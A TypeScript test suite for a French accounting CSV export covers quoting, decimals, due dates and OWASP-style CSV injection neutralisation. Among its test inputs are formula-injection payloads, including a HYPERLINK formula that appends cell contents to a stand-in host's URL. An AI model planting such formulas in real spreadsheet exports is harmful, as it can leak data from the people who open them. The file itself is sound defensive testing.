import { accountingCsv } from "../../../src/domain/statements/accountingCsv";
import { csvDecimal, csvInteger, csvText } from "../../../src/domain/statements/csvFields";
import { statementsForAccounting } from "../../../src/domain/statements/statementsForAccounting";
import { HEM, LYS, member, register, ROUBAIX, SETTINGS } from "./fixtures";
import { generate } from "./generations";
import { numbered } from "./numbered";

/**
 * Reads a `;`-separated CSV back (RFC 4180 quoting), to check the file by its meaning: fields in
 * double quotes may hold ; CR LF and doubled quotes. Records end with CR LF.
 */
function parseCsv(content: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < content.length; i += 1) {
    const c = content[i];
    if (quoted) {
      if (c === '"' && content[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ";") {
      record.push(field);
      field = "";
    } else if (c === "\r" && content[i + 1] === "\n") {
      record.push(field);
      records.push(record);
      record = [];
      field = "";
      i += 1;
    } else field += c;
  }
  if (field !== "" || record.length > 0) throw new Error("last record not ended by CRLF");
  return records;
}

const HEADER =
  "Numéro;Débiteur;SIRET;Objet;Montant;Code service;N° d'engagement;" +
  "Date d'émission;Échéance;Exercice;Imputation nature;Imputation fonction;N° de pièce PES";

describe("accountingCsv", () => {
  test("writes UTF-8 with BOM, ; separators, CRLF, French decimals", () => {
    // Hem 2025: 157 170 c → 1571,70 (no thousands separator); Roubaix 65 000 c → 650,00
    const csv = accountingCsv(numbered([HEM, ROUBAIX]));
    expect(csv).toBe(
      "\uFEFF" +
        `${HEADER}\r\n` +
        "2025-0001;Hem;21590299000013;Contribution ENT 2025 - Hem;1571,70;FIN-01;EJ-2025-77;01/03/2025;;2025;;;1\r\n" +
        "2025-0002;Roubaix;21590512600011;Contribution ENT 2025 - Roubaix;650,00;;;01/03/2025;;2025;;;2\r\n"
    );
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  test('quotes fields holding ; " CR or LF and reads back to the same texts', () => {
    const tricky = member({
      name: 'Communauté "Pévèle; Carembault"',
      siret: "21590373300016",
      serviceCode: "SERV\r\nA",
      engagementNumber: "EJ\n42",
    });
    const csv = accountingCsv(numbered([tricky]));
    // 100 pupils × 130 c = 13 000 c → 130,00
    expect(csv).toBe(
      `\uFEFF${HEADER}\r\n` +
        '2025-0001;"Communauté ""Pévèle; Carembault""";21590373300016;' +
        '"Contribution ENT 2025 - Communauté ""Pévèle; Carembault""";130,00;"SERV\r\nA";"EJ\n42";01/03/2025;;2025;;;1\r\n'
    );
    const [header, row, ...rest] = parseCsv(csv.slice(1));
    expect(header?.join(";")).toBe(HEADER);
    expect(row).toEqual([
      "2025-0001",
      'Communauté "Pévèle; Carembault"',
      "21590373300016",
      'Contribution ENT 2025 - Communauté "Pévèle; Carembault"',
      "130,00",
      "SERV\r\nA",
      "EJ\n42",
      "01/03/2025",
      "",
      "2025",
      "",
      "",
      "1",
    ]);
    expect(rest).toEqual([]);
  });

  // OWASP, CSV injection: a text starting with = + - @ tab or CR is prefixed with '.
  test.each([
    ["=", '=HYPERLINK("http://x.invalid/?"&A1;"Payer")'],
    ["+", "+33 3 20 00 00 00"],
    ["-", "-2+3"],
    ["@", "@SUM(A1:A9)"],
    ["a tab", "\t=1+1"],
    ["a carriage return", "\r=1+1"],
  ])("neutralises a member name starting with %s, and reads back to what was typed", (_, name) => {
    const tricky = member({
      name,
      siret: "=1+1",
      serviceCode: "@code",
      engagementNumber: "-EJ",
    });
    const csv = accountingCsv(numbered([tricky]));
    const [, row, ...rest] = parseCsv(csv.slice(1));
    expect(rest).toEqual([]);
    // Every text field that starts like a formula starts with the apostrophe in the file…
    expect(row?.[1]).toBe(`'${name}`);
    expect(row?.[2]).toBe("'=1+1");
    expect(row?.[5]).toBe("'@code");
    expect(row?.[6]).toBe("'-EJ");
    // …the object starts with "Contribution", so it is left as it is…
    expect(row?.[3]).toBe(`Contribution ENT 2025 - ${name}`);
    // …and, apart from that leading apostrophe, the texts are what the user typed.
    const typed = row?.map((field) => (/^'[=+\-@\t\r]/.test(field) ? field.slice(1) : field));
    expect(typed).toEqual([
      "2025-0001",
      name,
      "=1+1",
      `Contribution ENT 2025 - ${name}`,
      "130,00",
      "@code",
      "-EJ",
      "01/03/2025",
      "",
      "2025",
      "",
      "",
      "1",
    ]);
    // No cell of the file, once read, starts with a formula character.
    for (const field of row ?? []) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });

  test("writes a normal name and the number unchanged", () => {
    const csv = accountingCsv(numbered([member({ name: "Ville de Hem" })]));
    expect(csv.split("\r\n")[1]).toBe(
      "2025-0001;Ville de Hem;;Contribution ENT 2025 - Ville de Hem;130,00;;;01/03/2025;;2025;;;1"
    );
  });

  test("writes a negative amount as it is: a number, never neutralised", () => {
    const [statement] = numbered([member({ name: "Hem" })]);
    if (statement === undefined) throw new Error("no statement");
    // A negative total cannot come out of the schedules; build one to pin the export.
    const negative = {
      ...statement,
      draft: {
        ...statement.draft,
        contribution: { ...statement.draft.contribution, totalCents: -5 },
      },
    };
    const line = accountingCsv([negative]).split("\r\n")[1];
    expect(line).toBe("2025-0001;Hem;;Contribution ENT 2025 - Hem;-0,05;;;01/03/2025;;2025;;;1");
    expect(line).not.toContain("'-0,05");
  });

  test("with the settings: the due date and the imputation, the same facts as the PES titre", () => {
    const settings = { ...SETTINGS, paymentDays: 45, pesNature: "7474", pesFunction: "21" };
    const csv = accountingCsv(numbered([HEM]), settings);
    expect(csv.split("\r\n")[1]).toBe(
      "2025-0001;Hem;21590299000013;Contribution ENT 2025 - Hem;1571,70;FIN-01;EJ-2025-77;" +
        "01/03/2025;15/04/2025;2025;7474;21;1"
    );
  });

  test("writes only the header when there is nothing to export", () => {
    expect(accountingCsv([])).toBe(`\uFEFF${HEADER}\r\n`);
  });
});

describe("csv fields", () => {
  test.each([
    [0, "0,00"],
    [5, "0,05"],
    [1300, "13,00"],
    [157170, "1571,70"],
    [123456789, "1234567,89"],
    [-5, "-0,05"],
  ])("writes %p cents as %p", (cents, written) => {
    expect(csvDecimal(cents)).toBe(written);
  });

  test("csvText leaves plain texts alone and quotes the others", () => {
    expect(csvText("Hem")).toBe("Hem");
    expect(csvText("")).toBe("");
    expect(csvText("2025-0001")).toBe("2025-0001");
    expect(csvText("a;b")).toBe('"a;b"');
    expect(csvText('a"b')).toBe('"a""b"');
    expect(csvText("a\rb")).toBe('"a\rb"');
    expect(csvText("a\nb")).toBe('"a\nb"');
  });

  test.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@A1", "'@A1"],
    ["\tx", "'\tx"],
    ["a=b", "a=b"],
    ["Saint-Amand", "Saint-Amand"],
    // OWASP leaves a leading space or a full-width sign alone; so does csvText.
    [" =1+1", " =1+1"],
    ["\uFF1D1+1", "\uFF1D1+1"],
  ])("csvText(%j) is %j", (typed, written) => {
    expect(csvText(typed)).toBe(written);
  });

  test("csvText both quotes and neutralises a text with ; and = (OWASP's example)", () => {
    expect(csvText('=1+2";=1+2')).toBe('"\'=1+2"";=1+2"');
    // A CR first is neutralised, then quoted because it holds a CR.
    expect(csvText("\r=1")).toBe('"\'\r=1"');
    expect(parseCsv(`${csvText('=1+2";=1+2')};x\r\n`)).toEqual([["'=1+2\";=1+2", "x"]]);
  });

  test("csvInteger writes whole numbers as they are and refuses anything else", () => {
    expect(csvInteger(2025)).toBe("2025");
    expect(csvInteger(-3)).toBe("-3");
    expect(() => csvInteger(1.5)).toThrow(RangeError);
    expect(() => csvInteger(Number.NaN)).toThrow(RangeError);
  });
});

describe("statementsForAccounting", () => {
  test("exports new numbers only, never below 15 €", () => {
    const first = generate(register([HEM, ROUBAIX, LYS]), 2025, "2025-03-01");
    expect(statementsForAccounting(first.result.statements).map((s) => s.number)).toEqual([
      "2025-0001",
      "2025-0002",
    ]);
    const again = generate(
      register([HEM, { ...ROUBAIX, pupils: 600 }, LYS], { journal: first.journal }),
      2025,
      "2025-04-01"
    );
    // Hem already issued; Roubaix changed → 2025-0004; Lys below 15 €.
    expect(statementsForAccounting(again.result.statements).map((s) => s.number)).toEqual([
      "2025-0004",
    ]);
    expect(statementsForAccounting(again.result.statements, "all").map((s) => s.number)).toEqual([
      "2025-0001",
      "2025-0004",
    ]);
  });
});
